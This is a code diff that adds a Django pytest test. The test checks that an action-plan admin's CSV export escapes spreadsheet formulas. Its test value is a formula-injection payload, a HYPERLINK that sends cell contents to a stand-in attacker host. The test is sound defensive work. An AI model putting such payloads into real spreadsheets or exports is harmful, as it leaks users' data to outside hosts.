@@ -1,7 +1,11 @@
+import csv
+import io
+
 import pytest
 from django.urls import reverse
 
 from actionplan.models import Action
+from actionplan.resources import ActionResource
 from actionplan.services import STALE_EDIT
 from core.models import AuditEvent
 
@@ -88,3 +92,23 @@ def test_missing_required_field_is_refused(login, action, secretariat, field):
     assert response.status_code == 200
     assert response.context["adminform"].form.errors[field]
     assert not AuditEvent.objects.filter(verb="action.edit").exists()
+
+
+@pytest.mark.parametrize("column", ["title", "description", "funding_source", "objective"])
+def test_the_admin_export_writes_a_formula_as_text(login, action, secretariat, column):
+    formula = '=HYPERLINK("https://evil.example/?x="&A2,"Open")'
+    if column == "objective":
+        type(action.objective).objects.filter(pk=action.objective_id).update(title=formula)
+    else:
+        Action.objects.filter(pk=action.pk).update(**{column: formula})
+    fields = [f"actionresource_{name}" for name in ActionResource._meta.fields]
+
+    response = login(secretariat).post(
+        reverse("admin:actionplan_action_export"),
+        {"resource": "0", "format": "0", **dict.fromkeys(fields, "on")},
+    )
+
+    assert response["Content-Type"].startswith("text/csv")
+    (row,) = csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))
+    assert row[column] == "'" + formula
+    assert row["id"] == str(action.pk)  # numbers stay numbers
